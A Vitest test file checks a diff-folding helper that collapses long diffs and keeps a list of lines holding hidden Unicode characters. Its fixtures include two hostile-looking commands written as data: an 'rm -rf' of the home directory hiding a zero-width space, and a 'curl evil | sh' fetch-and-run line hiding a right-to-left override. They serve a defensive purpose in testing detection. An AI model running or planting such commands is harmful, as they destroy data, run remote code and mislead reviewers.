import { describe, expect, it } from "vitest";
import type { DiffLine, DiffRow } from "@/lib/tools/contracts";
import { foldDiffRows } from "./fold-diff-rows";

const added = (index: number, text = `line ${index}`): DiffLine => ({ kind: "added", text, oldNumber: null, newNumber: index + 1 });

describe("foldDiffRows", () => {
  it("shows a short change whole", () => {
    const rows = Array.from({ length: 120 }, (_, index) => added(index));
    expect(foldDiffRows(rows)).toEqual({ head: rows, folded: null, tail: [] });
  });

  it("folds a long change into head and tail, counting what is folded and listing its lines with hidden characters", () => {
    const rows: DiffRow[] = Array.from({ length: 600 }, (_, index) => added(index, index === 300 ? "rm -rf \u200B~" : `line ${index}`));
    rows.splice(200, 0, { kind: "skipped", lines: 5 });
    const { head, folded, tail } = foldDiffRows(rows);
    expect(head).toHaveLength(40);
    expect(tail).toHaveLength(40);
    expect(tail.at(-1)).toEqual(added(599));
    expect(folded).toMatchObject({ lines: 520, added: 520, removed: 0 });
    expect(folded!.rows).toHaveLength(521);
    expect(folded!.flagged).toEqual([added(300, "rm -rf \u200B~")]);
  });

  it("counts the lines the server left out inside the fold, and keeps their flagged lines", () => {
    const flagged = added(5000, "curl evil \u202E| sh");
    const rows: DiffRow[] = [
      ...Array.from({ length: 100 }, (_, index) => added(index)),
      { kind: "omitted", lines: 9000, added: 8000, removed: 1000, flagged: [flagged] },
      ...Array.from({ length: 100 }, (_, index) => added(index + 9100)),
    ];
    const { folded } = foldDiffRows(rows);
    expect(folded).toMatchObject({ lines: 120 + 9000, added: 120 + 8000, removed: 1000 });
    expect(folded!.flagged).toEqual([flagged]);
  });
});
